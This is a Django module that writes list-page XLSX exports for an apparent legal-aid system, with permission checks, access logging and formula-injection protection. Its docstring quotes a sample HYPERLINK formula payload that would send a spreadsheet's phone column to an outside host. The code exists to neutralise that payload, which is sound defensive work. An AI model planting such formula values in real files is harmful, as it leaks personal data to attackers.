"""XLSX export shared by every list: rows of plain values under a header row.

Every text is written as text, never as a formula. openpyxl turns any string starting with "="
into a formula, so a visitor named `=HYPERLINK("http://…?p="&G2,"…")` would send a colleague's
phone column away when the file is opened in Excel or WPS. Each string cell is therefore stored
as a string, and one that starts like a formula (= + - @, or a tab or carriage return that some
programs strip first) also carries Excel's "quote prefix" so that editing the cell later does not
turn it into a formula either. The visible text stays exactly what was typed.
"""

import functools
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from importlib import import_module
from io import BytesIO
from typing import Any
from urllib.parse import quote

from django.contrib.auth.decorators import login_required
from django.core.exceptions import PermissionDenied
from django.http import Http404, HttpResponse, QueryDict
from django.utils import timezone
from django.utils.functional import Promise
from django.utils.module_loading import autodiscover_modules
from django.utils.translation import gettext_lazy as _
from django.views.decorators.http import require_GET
from openpyxl import Workbook
from openpyxl.cell.cell import TYPE_STRING
from openpyxl.styles import Font

from .audit.services import log_access
from .models import AccessRecord
from .selectors import organisation_tree

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def local_minute(moment) -> str:
    """A moment as the centre reads it in a sheet: local date and time to the minute, blank when unset."""
    return timezone.localtime(moment).strftime("%Y-%m-%d %H:%M") if moment else ""


def local_day(moment) -> str:
    """The local date of a moment (a case accepted at 23:30 UTC belongs to the next day in Shanghai)."""
    return timezone.localtime(moment).date().isoformat() if moment else ""


def _write_row(sheet, row: int, values: Sequence, *, bold: bool = False) -> None:
    for column, value in enumerate(values, start=1):
        cell = sheet.cell(row=row, column=column)
        if isinstance(value, Promise):  # a lazily translated label
            value = str(value)
        if isinstance(value, str):
            cell.value = value
            cell.data_type = TYPE_STRING  # after the assignment, which may have guessed "formula"
            cell.quotePrefix = value.startswith(FORMULA_STARTS)
        else:
            cell.value = value
        if bold:
            cell.font = Font(bold=True)


def xlsx_bytes(title: str, header: Sequence[str], rows: Iterable[Sequence]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = str(title)[:31]
    _write_row(sheet, 1, header, bold=True)
    for index, row in enumerate(rows, start=2):
        _write_row(sheet, index, list(row))
    for index, name in enumerate(header, start=1):
        sheet.column_dimensions[sheet.cell(row=1, column=index).column_letter].width = max(10, len(str(name)) * 2 + 2)
    buffer = BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_response(filename: str, title: str, header: Sequence[str], rows: Iterable[Sequence]) -> HttpResponse:
    response = HttpResponse(xlsx_bytes(title, header, rows), content_type=XLSX_TYPE)
    response["Content-Disposition"] = f"attachment; filename*=UTF-8''{quote(filename)}"
    return response


# ---------------------------------------------------------------- the list exports' registry
#
# Every list page of the lifecycle exports what it shows through one registry, as pretix's
# ListExporter does: an app's `exports.py` registers a `ListExport` naming the list's permission,
# its scoped and filtered records (the same selector and filters as the page) and its columns,
# with ID numbers and phones masked as the page masks them. One view serves them all, logs each
# download in the access log and writes every cell as text (see above: never a formula).


@dataclass(frozen=True)
class ListExport:
    identifier: str
    title: Promise | str
    # The list page's permission; empty for a page every signed-in user has (a list of their own records only).
    permission: str
    columns: tuple[tuple[Promise | str, Callable[[Any], Any]], ...]
    # (user, the list page's GET parameters) -> the records the page would list, in its order.
    records: Callable[[Any, QueryDict], Iterable]
    # The list's filter parameters the export honours; only these travel in its link and its log line
    # (never, say, the ID number typed into a card check on the same page).
    filters: tuple[str, ...] = ()
    # (user, filters) -> the rows written under the records (a list's totals), if the page shows any.
    footer: Callable[[Any, QueryDict], Iterable[Sequence]] | None = None
    # The rule the list page applies besides its permission, where the page opens by role (the directors'
    # pages: a centre director) or by what the user may do (batch printing: some kind they may print).
    allowed: Callable[[Any], bool] | None = None


def may_export(user, export: ListExport) -> bool:
    """Whether the user may download the list: the export view and its 导出 button both ask this."""
    if export.permission and not user.has_perm(export.permission):
        return False
    return export.allowed is None or export.allowed(user)


LIST_EXPORTS: dict[str, ListExport] = {}


def register_list_export(export: ListExport) -> ListExport:
    LIST_EXPORTS[export.identifier] = export
    return export


@functools.cache
def _discovered() -> None:
    """Import every installed app's `exports` module once per process (each registers its lists on import),
    and the exports of the project package's own lists, which live beside their pages in its sub-packages."""
    autodiscover_modules("exports")
    for package in ("audit", "directory", "messaging", "documents"):
        import_module(f"{__package__}.{package}.exports")


def list_exports() -> dict[str, ListExport]:
    """The registry, once every installed app's `exports` module has registered its lists."""
    _discovered()
    return LIST_EXPORTS


def list_filters(export: ListExport, params: QueryDict) -> QueryDict:
    """The list's filters the export honours (never the page number: an export is every page)."""
    kept = QueryDict(mutable=True)
    for name in export.filters:
        if name in params:
            kept.setlist(name, params.getlist(name))
    return kept


def export_response(request, identifier: str) -> HttpResponse:
    """The XLSX of one registered list for this request's user and filters: the one path every export takes."""
    export = list_exports().get(identifier)
    if export is None:
        raise Http404
    if not may_export(request.user, export):
        raise PermissionDenied
    filters = list_filters(export, request.GET)

    def rows():
        for record in export.records(request.user, filters):
            yield [column(record) for _label, column in export.columns]
        if export.footer is not None:
            yield from export.footer(request.user, filters)

    header = [str(label) for label, _column in export.columns]
    return xlsx_download(request, export.title, header, rows(), detail=filters.urlencode())


def xlsx_download(
    request, title, header: Sequence, rows: Iterable[Sequence], *, detail: str = "", filename: str = ""
) -> HttpResponse:
    """Every XLSX a user downloads (a list, a statistics report): logged in the access log, then written."""
    title = str(title)
    log_access(request, kind=AccessRecord.Kind.EXPORT, subject=title, detail=detail)
    filename = filename or f"{title}-{timezone.localdate().isoformat()}.xlsx"
    return xlsx_response(filename, title, [str(label) for label in header], rows)


@login_required
@require_GET
def export_list(request, identifier: str) -> HttpResponse:
    return export_response(request, identifier)


# ---------------------------------------------------------------- the project package's own list


def _organisations(user, params: QueryDict):
    organisations = organisation_tree(user)
    kind = params.get("kind", "")
    return organisations.filter(kind=kind) if kind else organisations


register_list_export(
    ListExport(
        identifier="legalaid.organisations",
        title=_("机构网络"),
        permission="legalaid.view_organisation",
        records=_organisations,
        filters=("kind",),
        columns=(
            (_("名称"), lambda o: o.name),
            (_("类型"), lambda o: o.get_kind_display()),
            (_("上级机构"), lambda o: o.parent.name if o.parent else ""),
            (_("区划代码"), lambda o: o.division_code),
            (_("电话"), lambda o: o.phone),
            (_("人员"), lambda o: o.member_count),
        ),
    )
)
